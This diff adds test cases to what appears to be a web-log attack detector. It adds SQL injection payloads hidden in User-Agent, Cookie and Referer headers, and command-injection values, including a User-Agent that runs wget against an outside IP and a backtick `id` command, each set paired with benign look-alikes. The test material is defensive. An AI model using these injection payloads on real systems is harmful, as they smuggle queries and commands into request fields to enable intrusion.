@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from .cases import Case
-from .weblogs import application, balancer, front, gateway, line, waf
+from .weblogs import FIREFOX, application, balancer, front, gateway, line, waf
 
 CASES = (
     Case(
@@ -91,5 +91,25 @@ CASES = (
             application("bad name: 1' UNION SELECT user, password FROM users"),
         ],
         [application("login failed"), application("template ${name} is missing")],
+    ),
+    Case(
+        "SQL injection in a header",
+        [
+            line("/", agent="x' AND SLEEP(5)-- -"),
+            waf("/", headers=(("Cookie", "id=1%27%20UNION%20SELECT%20a%20FROM%20b"),)),
+            line("/", referer="https://www.example.com/?q=1' or '1'='1"),
+        ],
+        [
+            line("/", agent=FIREFOX, referer="https://www.example.com/blog/union-select"),
+            waf("/", headers=(("Cookie", "theme=dark; sleep=1"),)),
+        ],
+    ),
+    Case(
+        "Command in a header",
+        [
+            line("/", agent="x; wget http://203.0.113.91/a"),
+            waf("/", headers=(("Referer", "https://www.example.com/`id`"),)),
+        ],
+        [line("/", agent="Wget/1.21.4"), line("/", agent="curl/8.5.0 (x86_64; linux)")],
     ),
 )
